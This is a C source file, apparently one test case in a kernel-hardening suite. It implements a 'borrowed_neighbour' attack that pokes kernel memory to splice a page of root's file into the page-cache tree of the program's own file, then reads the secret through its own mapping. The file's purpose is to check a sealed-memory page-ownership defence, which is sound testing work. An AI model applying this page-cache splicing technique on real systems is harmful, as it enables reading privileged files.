// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("page_cache_integrity", "borrowed_neighbour",
       "page_cache_integrity: a page of one file in another",
       "The program hangs a page of root's file behind the first page of a file of its own, "
       "maps that and touches the first page: the kernel maps what is around it.",
       "Each frame says in sealed memory which page of which file it is.",
       "It reads root's file where it has mapped its own.");

#define VICTIM_FILE 5

static bool control(void)
{
	return is_ordinary();
}

/* Where the tree of an open file's pages begins. */
static uint64_t tree_root(uint64_t task, int file)
{
	const uint64_t inode = peek(file_struct(task, file) + member("file.inode"));

	return inode + member("inode.cache") + member("page_cache.pages") +
	       member("page_tree.root");
}

static bool fire(void)
{
	const long own = call3(__NR_open, (long)"/tmp/own", O_RDWR | O_CREAT, 0600);
	const uint64_t task = own_task();
	const volatile char *page;
	char bytes[sizeof(SECRET) - 1] = { 0 };

	call4(__NR_pwrite64, own, (long)bytes, sizeof(bytes), 0);
	call4(__NR_pwrite64, own, (long)bytes, sizeof(bytes), PAGE);
	page = (const char *)call6(__NR_mmap, 0, 2 * PAGE, PROT_READ, MAP_PRIVATE, own, 0);
	poke(peek(tree_root(task, (int)own)) + member("page_node.slots") + 8,
	     peek(tree_root(victim_task(task), VICTIM_FILE)));
	(void)page[0];
	for (uint64_t i = 0; i < sizeof(bytes); i++)
		bytes[i] = page[PAGE + i];
	return bytes_equal(bytes, SECRET, sizeof(bytes));
}

static void victim(void)
{
	call2(__NR_dup2, call3(__NR_open, (long)PRIZE, O_RDONLY, 0), VICTIM_FILE);
	victim_waits();
}
